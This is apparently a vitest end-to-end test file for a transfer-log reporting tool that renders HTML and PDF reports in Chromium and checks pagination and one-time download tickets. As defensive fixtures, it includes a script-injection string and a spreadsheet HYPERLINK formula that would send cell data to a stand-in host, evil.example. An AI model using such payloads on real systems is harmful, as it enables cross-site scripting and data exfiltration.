/**
 * Reports rendered by Chromium (Debian's `chromium`, driven by playwright-core): the HTML report
 * opened offline (no request, no console error, log values inert), PDFs printed by `xferlens report`
 * on A4 and Letter (text read back with pdftotext: page numbers, the transfer table's header on every
 * page it spans, no row cut across pages), and browser mode: the download routes and the page's
 * Report… dialog. Skipped, saying why, without Chromium or poppler-utils.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { runCli, tempDir } from '../helpers.js';
import { BULK_TRANSFERS, indexReportLogs, type ReportLogs } from '../report-fixtures.js';
import { launchChromium, serveSkipReason, startServe, type Served } from './serve-harness.js';

const hasPoppler = spawnSync('pdftotext', ['-v']).error === undefined && spawnSync('pdfinfo', ['-v']).error === undefined;
const skipReason = serveSkipReason ?? (hasPoppler ? null : 'no pdftotext/pdfinfo (apt-get install poppler-utils)');
if (skipReason) console.warn(`report rendering tests skipped: ${skipReason}`);

/** The text of each page of a PDF. */
function pdfPages(file: string): string[] {
  const r = spawnSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
  expect(r.status, r.stderr).toBe(0);
  return r.stdout.split('\f').filter((p, i, all) => i < all.length - 1 || p.trim());
}

function pdfInfo(file: string): { pages: number; size: string } {
  const r = spawnSync('pdfinfo', [file], { encoding: 'utf8' });
  return { pages: Number(/^Pages:\s+(\d+)/m.exec(r.stdout)![1]), size: /^Page size:\s+(.+)$/m.exec(r.stdout)![1]! };
}

describe.skipIf(skipReason !== null)('reports in Chromium', () => {
  const out = tempDir('xferlens-report-e2e-');
  let logs: ReportLogs;
  let browser: Browser;

  beforeAll(async () => {
    logs = indexReportLogs();
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    logs?.cleanup();
    fs.rmSync(out, { recursive: true, force: true });
  });

  it('the HTML report opens offline: no request, no console error, log values stay text', async () => {
    const file = path.join(out, 'report.html');
    expect(runCli(['report', '--db', logs.db, '--tz', 'UTC', '--out', file]).status).toBe(0);
    const page = await browser.newPage();
    const problems: string[] = [];
    const requests: string[] = [];
    page.on('console', (m) => m.type() === 'error' && problems.push(m.text()));
    page.on('pageerror', (e) => problems.push(e.message));
    page.on('request', (r) => requests.push(r.url()));
    await page.goto(pathToFileURL(file).href);
    expect(problems).toEqual([]);
    expect(requests).toEqual([pathToFileURL(file).href]);
    expect(await page.evaluate("({ xss: typeof window.__xss, active: document.querySelectorAll('script, img, iframe, object, embed, link').length })")).toEqual({ xss: 'undefined', active: 0 });
    const text = await page.locator('body').innerText();
    for (const heading of ['Summary', 'Activity over time', 'Top users, client IPs and paths', 'Failed logins by client IP and user', 'Failed transfers and what their codes mean', 'Transfers', 'Insights']) {
      expect(await page.getByRole('heading', { name: heading, exact: true }).count(), heading).toBe(1);
    }
    expect(text).toContain('<script>window.__xss=1</script>');
    expect(text).toContain('=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(await page.locator('svg.chart rect').count()).toBeGreaterThan(0);
    await page.close();
  });

  it('prints to PDF on A4: page numbers, the transfer table header on every page it spans, no row cut', () => {
    const file = path.join(out, 'report.pdf');
    const r = runCli(['report', '--db', logs.db, '--tz', 'UTC', '--query', 'format:w3c', '--title', 'EFT audit', '--out', file]);
    expect(r.status, r.stderr).toBe(0);
    const info = pdfInfo(file);
    expect(info.size).toMatch(/\(A4\)/);
    const pages = pdfPages(file);
    expect(pages).toHaveLength(info.pages);
    expect(info.pages).toBeGreaterThanOrEqual(4);
    pages.forEach((p, i) => {
      expect(p).toContain(`Page ${i + 1} of ${info.pages}`);
      expect(p).toContain('EFT audit');
    });
    const all = pages.join('\n');
    for (const s of ['Summary', 'Logins failed', 'Failed logins by client IP and user', 'Insights', 'Made by xferlens']) expect(all).toContain(s);
    // Every bulk transfer's row is on exactly one page, whole: its time, user, IP and path on one
    // line (a cut row would leave its time on one page and its path on the next); each page of the
    // table repeats its header.
    const tablePages = new Set<number>();
    for (let i = 1; i <= BULK_TRANSFERS; i++) {
      const name = `transfer-${String(i).padStart(5, '0')}.bin`;
      const d = new Date(Date.UTC(2026, 2, 3, 8, 0, i)).toISOString().slice(11, 19);
      const row = new RegExp(`^\\s*2026-03-03 ${d}\\s+bulk\\s+10\\.1\\.0\\.5\\s+upload\\s+/bulk/${name.replace('.', '\\.')}\\s+${(1000 + i).toLocaleString("en-US")}\\b`, 'm');
      const on = pages.map((p, n) => (row.test(p) ? n : -1)).filter((n) => n >= 0);
      expect(on, name).toHaveLength(1);
      // Nowhere else but in an insight (the largest transfers name the last ones).
      expect(pages.filter((p) => p.includes(name)).length, name).toBeLessThanOrEqual(2);
      tablePages.add(on[0]!);
    }
    expect(tablePages.size).toBeGreaterThanOrEqual(2);
    for (const n of tablePages) expect(pages[n], `page ${n + 1}`).toMatch(/Time\s+User\s+Client IP\s+Operation\s+Path\s+Bytes/);
  });

  it('prints on Letter paper', () => {
    const file = path.join(out, 'letter.pdf');
    expect(runCli(['report', '--db', logs.db, '--tz', 'UTC', '--query', 'user:alice', '--paper', 'letter', '--out', file]).status).toBe(0);
    expect(pdfInfo(file).size).toMatch(/612 x 792 pts \(letter\)/);
    expect(pdfPages(file)[0]).toContain('Transfer report');
  });

  describe('browser mode', () => {
    let served: Served;
    beforeAll(async () => {
      served = await startServe(logs.db);
    });
    afterAll(async () => {
      await served?.stop();
    });

    it('downloads a report made by the server through a one-time ticket, without the token in it', async () => {
      const { url } = await served.call<{ url: string }>('report/ticket', { query: 'user:bulk', format: 'html', title: 'Bulk', timeZone: 'UTC' });
      expect(url).toMatch(/^\/api\/report\/download\?ticket=/);
      const res = await fetch(served.origin + url);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8');
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="xferlens-report-.*\.html"$/);
      const html = await res.text();
      expect(html).toContain('<h1>Bulk</h1>');
      expect(html).toContain(`data-transfers-total="${BULK_TRANSFERS}"`);
      expect(html).not.toContain(served.token);
      expect(html).not.toContain(path.dirname(logs.db));
      expect((await fetch(served.origin + url)).status).toBe(401); // used up
      // An export ticket does not open a report, nor the other way round.
      const exportTicket = await served.call<{ url: string }>('export/ticket', { kind: 'events' });
      expect((await fetch(served.origin + exportTicket.url.replace('/export/', '/report/'))).status).toBe(401);

      const bad = await served.call<{ url: string }>('report/ticket', { query: 'usr:x', format: 'html' });
      const refused = await fetch(served.origin + bad.url);
      expect(refused.status).toBe(400);
      expect(await refused.json()).toMatchObject({ error: expect.stringContaining('unknown field "usr"') });
      await expect(served.call('report/ticket', { query: '', format: 'pdf', paper: 'a3' })).rejects.toThrow(/400 report\/ticket: paper must be one of a4, letter/);
      await expect(served.call('report/start', { query: '', format: 'html', path: path.join(out, 'x.html') })).rejects.toThrow(/403 report\/start: browser mode does not write files/);
    });

    it('the page: Report… beside Export downloads a PDF of the current search', async () => {
      const page = await browser.newPage({ acceptDownloads: true });
      const problems: string[] = [];
      page.on('console', (m) => m.type() === 'error' && problems.push(m.text()));
      page.on('pageerror', (e) => problems.push(e.message));
      await page.goto(served.url);
      await page.getByRole('searchbox').or(page.getByPlaceholder(/search/i)).first().fill('user:alice');
      await page.keyboard.press('Enter');
      await page.getByRole('button', { name: 'Report…' }).click();
      const dialog = page.getByRole('dialog', { name: 'Report' });
      await dialog.waitFor();
      expect(await dialog.textContent()).toContain('user:alice');
      await dialog.getByLabel('PDF').check();
      await dialog.getByLabel('Letter').check();
      const [download] = await Promise.all([page.waitForEvent('download', { timeout: 60_000 }), dialog.getByRole('button', { name: 'Download report' }).click()]);
      const file = path.join(out, 'from-page.pdf');
      await download.saveAs(file);
      expect(pdfInfo(file).size).toMatch(/\(letter\)/);
      expect(pdfPages(file).join('\n')).toContain('(user:alice)');
      expect(problems).toEqual([]);
      await page.close();
    });
  });
});
